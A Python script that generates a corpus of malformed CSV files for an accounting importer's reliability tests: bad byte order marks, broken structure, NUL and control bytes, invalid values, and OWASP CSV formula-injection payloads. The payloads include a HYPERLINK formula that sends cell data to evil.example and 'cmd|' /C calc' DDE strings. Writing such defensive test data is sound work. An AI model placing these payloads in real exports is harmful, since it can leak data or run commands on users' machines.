"""Writes the bad-CSV corpus next to this script: ``python tests/data/bad_csv/make_corpus.py``.

Each file is a way a CSV goes wrong; tests/reliability/test_bad_csv.py imports every one
and expects nothing imported and the reason in ``EXPECTED`` there. The huge files (over
the size and row limits) are generated at test time instead.
"""

from __future__ import annotations

from pathlib import Path

HEADER = "date,supplier,description,account_code,account_name,bank_account,tax_code,net,tax,total,currency,reference"
GOOD = "2026-11-02,Acme Ltd,Taxi to client,429,General Expenses,090,INPUT2,10.00,2.00,12.00,GBP,R-1"


def line(**cells: str) -> str:
    values = dict(zip(HEADER.split(","), GOOD.split(",")))
    values.update(cells)
    return ",".join(values[name] for name in HEADER.split(","))


def text(*rows: str) -> str:
    return "\r\n".join([HEADER, *rows]) + "\r\n"


CORPUS: dict[str, bytes] = {
    # byte order marks in the wrong places (Windows-1252, UTF-16 and UTF-32 files are good files:
    # tests/test_importer.py reads them)
    "double_utf8_bom.csv": b"\xef\xbb\xbf\xef\xbb\xbf" + text(GOOD).encode(),
    "bom_inside_header.csv": text(GOOD).replace("supplier", "\ufeffsupplier", 1).encode(),
    "binary_garbage.csv": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)),
    # structure
    "empty.csv": b"",
    "only_header.csv": (HEADER + "\n").encode(),
    "missing_columns.csv": text(GOOD).replace(",total", "", 1).encode(),
    "duplicate_columns.csv": text(GOOD + ",99.00").replace("reference", "reference,net", 1).encode(),
    "mismatched_quotes.csv": text(GOOD, line(supplier='"Acme, unterminated')).encode(),
    "stray_quote_mid_file.csv": text(line(supplier='"Acme Ltd'), GOOD, GOOD).encode(),
    "short_row.csv": text(GOOD, "2026-11-02,Acme Ltd,Taxi").encode(),
    "nul_bytes.csv": text(GOOD, line(supplier="Acme\x00Ltd")).encode(),
    "control_characters.csv": text(line(description="bell\x07 and escape\x1b[31m red")).encode(),
    # formula injection (OWASP CSV injection payloads)
    "formula_hyperlink.csv": text(line(supplier='"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"')).encode(),
    "formula_plus_cmd.csv": text(line(description="+cmd|' /C calc'!A0")).encode(),
    "formula_minus_cmd.csv": text(line(description="-2+3+cmd|' /C calc'!A0")).encode(),
    "formula_at_sum.csv": text(line(reference="@SUM(1+1)*cmd|' /C calc'!A0")).encode(),
    "formula_tab_prefixed.csv": text(line(description='"\t=1+1"')).encode(),
    "formula_cr_prefixed.csv": text(line(account_name='"\r=1+1"')).encode(),
    "formula_in_amount.csv": text(line(net="=10", total="=12")).encode(),
    # values
    "bad_date.csv": text(line(date="02/11/2026")).encode(),
    "bad_amount.csv": text(line(net="ten", total="12.00")).encode(),
    "unknown_currency.csv": text(line(currency="XYZ")).encode(),
    "totals_do_not_add_up.csv": text(line(total="13.00")).encode(),
    "too_many_decimals.csv": text(line(currency="JPY", net="10.5", tax="0", total="10.5")).encode(),
    "one_bad_line_among_good.csv": text(GOOD, line(reference="R-2"), line(date="2026-13-40"), line(reference="R-4")).encode(),
}


def write(directory: Path = Path(__file__).parent) -> None:
    for name, data in CORPUS.items():
        (directory / name).write_bytes(data)


if __name__ == "__main__":
    write()
